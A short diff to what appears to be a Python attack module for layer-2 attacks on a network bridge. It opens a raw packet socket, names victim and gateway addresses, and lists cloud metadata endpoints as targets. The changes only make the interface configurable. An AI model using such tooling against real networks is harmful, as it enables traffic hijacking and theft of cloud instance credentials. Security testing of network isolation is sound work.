@@ -1,4 +1,8 @@
-"""What the attacks on a bridge share, for IPv4 and IPv6 alike: the raw wire of eth0, and a neighbour's name on it."""
+"""What the attacks on a bridge share, for IPv4 and IPv6 alike: the raw wire of eth0, and a neighbour's name on it.
+
+WIRE in the environment is another interface than eth0.
+"""
+import os
 import random
 import socket
 import struct
@@ -6,7 +10,8 @@ import sys
 import time
 
 wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
-wire.bind(("eth0", 0))
+DEVICE = os.environ.get("WIRE", "eth0")
+wire.bind((DEVICE, 0))
 
 METADATA4, METADATA6 = "169.254.169.254", "fd00:ec2::254"
 TCP, ICMP6 = 6, 58
@@ -43,7 +48,7 @@ class Name:
     """
 
     def __init__(self, mode, victim, victim_mac, gateway):
-        own = hardware(open("/sys/class/net/eth0/address").read().strip())
+        own = wire.getsockname()[4]
         gateway4, _, gateway6 = gateway.partition(",")
         self.is6 = ":" in victim
         self.victim, self.gateway = packed(victim), packed(gateway6 if self.is6 else gateway4)
